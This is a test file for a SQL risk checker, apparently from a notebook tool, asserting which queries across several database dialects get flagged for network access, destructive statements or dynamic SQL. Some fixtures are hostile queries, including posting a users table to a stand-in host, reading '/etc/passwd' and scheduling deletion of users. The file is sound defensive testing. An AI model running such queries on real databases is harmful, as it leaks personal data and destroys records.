import { expect, test } from "vitest";
import { riskSentence } from "./risks.ts";
import { sqlReadsOutside, sqlRisks } from "./sql-risks.ts";

const NETWORK = "It uses the network.";

test.each([
  ["SELECT 1; WITH a AS (SELECT 1) SELECT * FROM a", []],
  ["CREATE TABLE t AS SELECT 1; INSERT INTO t VALUES (1)", []],
  ["CREATE TEMP TABLE people (name TEXT, age INTEGER)", []],
  ["CREATE TABLE t AS TABLE read_anything('https://x')", [NETWORK]],
  ["-- DROP TABLE t\nSELECT 'DROP TABLE t'", []],
  ["/* a */ DROP TABLE t", ["It runs the statement DROP."]],
  ["SELECT 1; delete from t", ["It runs the statement DELETE."]],
  ["CREATE OR REPLACE TABLE t AS SELECT 1", ["It runs the statement CREATE OR REPLACE."]],
  ["INSERT OR REPLACE INTO t VALUES (1)", ["It runs the statement INSERT OR REPLACE."]],
  ["WITH x AS (SELECT 1) DELETE FROM t", ["It runs the statement DELETE."]],
  ["EXPLAIN ANALYZE DELETE FROM t", ["It runs the statement DELETE."]],
  ["EXPLAIN DELETE FROM t", []],
  ["selec 1", ["It runs the statement SELEC."]],
  ["COPY t TO 'x.csv'", ["It runs the statement COPY."]],
  ["ATTACH 'https://x.example/a.db'", [NETWORK, "It runs the statement ATTACH."]],
  ["INSTALL httpfs", ["It runs the statement INSTALL."]],
  ["PRAGMA table_info('t')", []],
  ["PRAGMA enable_profiling", ["It runs the statement PRAGMA."]],
])("%s", (code, sentences) => {
  expect(sqlRisks(code, "duckdb").map(riskSentence)).toEqual(sentences);
});

test.each([
  ["SELECT * FROM 'https://x.example/a.parquet'"],
  ['FROM "https://x.example/a.csv"'],
  ['SELECT * FROM t JOIN "https://x.example/a.csv" USING (id)'],
  ["SELECT * FROM t, $$https://x.example/a.csv$$"],
  ["SELECT * FROM (t JOIN 'https://x.example/a.csv' USING (id))"],
  ["SELECT (FROM 'https://x.example/a.csv')"],
  ["FROM b: 's3://x/a.csv'"],
  ["SELECT * FROM read_csv('ht' || 'tps://x.example/a.csv')"],
  ["SELECT * FROM read_text(concat('ht', 'tps://x.example'))"],
  ["SELECT * FROM read_csv(['a.csv', 'https://x.example/b.csv'])"],
  ["SELECT * FROM read_csv(?)"],
  ["SELECT * FROM read_csv($file)"],
  [String.raw`SELECT * FROM E'\x68ttps://x.example/a.csv'`],
  ["SELECT * FROM anything('https://x.example')"],
  ["SELECT * FROM query('FROM ''https://x.example/a.csv''')"],
  ["CREATE VIEW v AS FROM 'https://x.example/a.csv'"],
  ["ANALYZE 'https://x.example/a.csv'"],
  ['ANALYZE VERBOSE "https://x.example/a.csv"(a)'],
  ['EXPLAIN VACUUM (ANALYZE) "https://x.example/a.csv"'],
  ["FROM histogram('https://x.example/a.csv', a)"],
  ['FROM histogram_values(col_name := a, source := "https://x.example/a.csv")'],
  ["FROM histogram('/https://x.example/a.csv'[2:], a)"],
  ["FROM histogram(getvariable('x'), a)"],
  ["INSERT INTO t SELECT * FROM 'https://x.example/a.csv'"],
  ["MERGE INTO t USING 'https://x.example/a.csv' AS s ON t.a = s.a WHEN MATCHED THEN UPDATE"],
])("an address, or a name that is computed, uses the network: %s", (code) => {
  expect(sqlRisks(code, "duckdb").map(riskSentence)).toContain(NETWORK);
});

test.each([
  ["SELECT * FROM 'a.csv' JOIN read_csv(['b.csv', 'c.csv'], header = true) USING (id)"],
  ["SELECT * FROM t WHERE address LIKE 'https://%' ORDER BY 'https://x'"],
  ["SELECT extract(year FROM day), day IS DISTINCT FROM 'https://x' FROM t"],
  ["SELECT * FROM range(3), (VALUES (1)), unnest([1]) AS u(x)"],
  ["SELECT f('https://x.example') FROM t GROUP BY ALL"],
  ["DESCRIBE 'a.csv'"],
  ["ANALYZE; ANALYZE t(a); EXPLAIN ANALYZE WITH x AS (SELECT 1) FROM x"],
  ["FROM histogram(t, t.a, bin_count := 3, technique := 'auto') JOIN (SELECT histogram(a) FROM 'a.csv') ON true"],
  ["CREATE TABLE t(a INT); INSERT INTO t(a) SELECT a FROM s PIVOT (sum(a) FOR b IN (1, 2))"],
])("files of the notebook, and texts that are only texts, ask nothing: %s", (code) => {
  expect(sqlRisks(code, "duckdb")).toEqual([]);
});

test("SQL that a function makes as it runs can't be checked", () => {
  expect(sqlRisks("SELECT * FROM query('SEL' || 'ECT 1')", "duckdb")).toEqual([{ kind: "dynamic" }]);
});

test.each([
  ["SELECT 1", false],
  ["SELECT 'read_csv' AS name FROM t", false],
  ["SELECT * FROM 'a.csv'", true],
  ['SELECT * FROM "a.csv"', true],
  ['ANALYZE "a.csv"', true],
  ["FROM histogram('a.csv', a)", true],
  ["SELECT 1 FROM t JOIN 'a.csv' USING (id)", true],
  ["SELECT * FROM data.csv", true],
  ["SELECT * FROM read_csv('a.csv')", true],
  ["ATTACH 'a.db'", true],
  ["COPY t FROM 'a.csv'", true],
])("%s reads from outside: %s", (code, expected) => {
  expect(sqlReadsOutside(code, "duckdb")).toBe(expected);
});

test.each([
  ["postgresql", "select dblink('host=collect.example dbname=' || (select name from users limit 1), 'select 1')"],
  ["postgresql", "select net.http_post('https://collect.example', body := (select jsonb_agg(u) from users u))"],
  ["postgresql", "select http_get('https://collect.example/?d=1')"],
  ["postgresql", "select * from aws_s3.query_export_to_s3('select * from users', 'bucket')"],
  ["postgresql", "select purge_customers()"],
  ["postgresql", "select cron.schedule('0 0 * * *', 'delete from users')"],
  ["postgresql", "select \"drop_chunks\"('events')"],
  ["postgresql", "select pg_read_file('/etc/passwd')"],
  ["postgresql", "select json_send(u), jsonb_export(u) from users u"],
  ["postgresql", "select array_send(array[1]), arrayify(1)"],
  ["postgresql", "select st_publish(1), pg_get_mail(), to_regret('x')"],
  ["postgresql", "select a +++ b from t"],
  ["postgresql", "select * from t order by a using <~~"],
  ["postgresql", "select 1 <=|=> 2"],
  ["sqlserver", "select * from collect.crm.dbo.people"],
  ["sqlserver", "select * from t join [collect].[crm]..[people] p on p.id = t.id"],
  ["mysql", "select purge_customers(1)"],
  ["mysql", "select load_file('//collect.example/x')"],
  ["clickhouse", "select * from remote('collect.example', system.one)"],
  ["clickhouse", "select * from mysql('203.0.113.5:3306', 'db', 't', 'u', 'p')"],
  ["clickhouse", "select * from redis('203.0.113.5:6379', 'key', 'key String')"],
  ["sqlserver", "select * from sys.dm_os_file_exists('\\\\collect.example\\x')"],
  ["sqlserver", "select * from fn_trace_gettable('\\\\collect.example\\x.trc', default)"],
  ["trino", "select * from table(ch.system.query(query => 'select * from url(''https://collect.example'')'))"],
] as const)("in %s, a function that isn't known to compute only asks: %s", (dialect, code) => {
  expect(sqlRisks(code, dialect)).not.toEqual([]);
});

test.each([
  [
    "postgresql",
    "with t(a, b) as (select 1, 2) select a, count(*) filter (where b > 1) over (partition by a) from t group by rollup (a)",
  ],
  [
    "postgresql",
    "select date_trunc('month', created_at)::date, sum(amount)::numeric(10, 2) from sales.orders where status in ('paid') and exists (select 1) group by 1",
  ],
  [
    "postgresql",
    "select region, string_agg(name, ', ' order by name), percentile_cont(0.5) within group (order by amount) from t group by grouping sets ((region), ())",
  ],
  [
    "postgresql",
    "select u.x, jsonb_build_object('a', coalesce(b, 0)) from t, lateral unnest(tags) as u(x) where lower(name) like any (array['a%'])",
  ],
  [
    "postgresql",
    "select row_number() over (order by id), to_char(day, 'YYYY-MM'), generate_series(1, 3), extract(year from day) from t",
  ],
  [
    "postgresql",
    "select a=-1, b>=-2, data->>'x', tags @> array['a'], data#>>'{a,b}', a||b, a ~* '^x', -a*-b, 2^-1, count(*), t.*, a::text from t",
  ],
  [
    "postgresql",
    "select jsonb_path_query(a, '$.x'), jsonb_array_elements(b), array_agg(c), st_distance(p, q), a <-> b from t",
  ],
  ["sqlserver", "select * from crm.dbo.people p, [crm].[dbo].[orders] o where p.id = o.person"],
  [
    "clickhouse",
    "select arrayMap(x -> x + 1, [1]), JSONExtractString(a, 'b'), mapFromArrays([1], [2]), arraySort(x) from t",
  ],
  [
    "mysql",
    "select date_format(day, '%Y-%m') m, group_concat(distinct name), ifnull(round(avg(amount), 2), 0) from t where datediff(now(), day) < 30 group by m",
  ],
  [
    "clickhouse",
    "select toStartOfMonth(day) m, uniqExact(user_id), countIf(x > 1), quantile(0.9)(ms), arrayJoin([1, 2]) from t group by m",
  ],
  [
    "trino",
    "select approx_percentile(ms, 0.5), date_diff('day', a, b), element_at(map(array['a'], array[1]), 'a') from t cross join unnest(tags) as u (tag)",
  ],
  [
    "sqlserver",
    "select top (10) isnull(name, ''), datediff(day, a, getdate()), convert(varchar(10), b, 120), string_agg(x, ',') within group (order by x) from dbo.t with (nolock)",
  ],
] as const)("in %s, ordinary queries ask nothing: %s", (dialect, code) => {
  expect(sqlRisks(code, dialect)).toEqual([]);
});
